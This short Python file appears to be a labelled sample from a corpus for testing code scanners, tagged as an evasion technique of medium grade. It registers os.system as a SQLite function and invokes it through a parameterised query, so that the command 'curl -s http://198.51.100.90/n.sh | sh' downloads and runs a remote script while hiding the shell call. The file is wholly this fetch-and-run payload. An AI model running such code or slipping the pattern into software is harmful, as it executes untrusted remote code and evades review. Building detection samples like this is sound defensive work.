# evasion: os.system is registered as an SQL function; SQLite calls it with the command bound as a query parameter
# grade: medium; does: shell
import os
import sqlite3

con = sqlite3.connect(":memory:")
con.create_function("notify", 1, os.system)
con.execute("SELECT notify(?)", ("curl -s http://198.51.100.90/n.sh | sh",))
con.close()
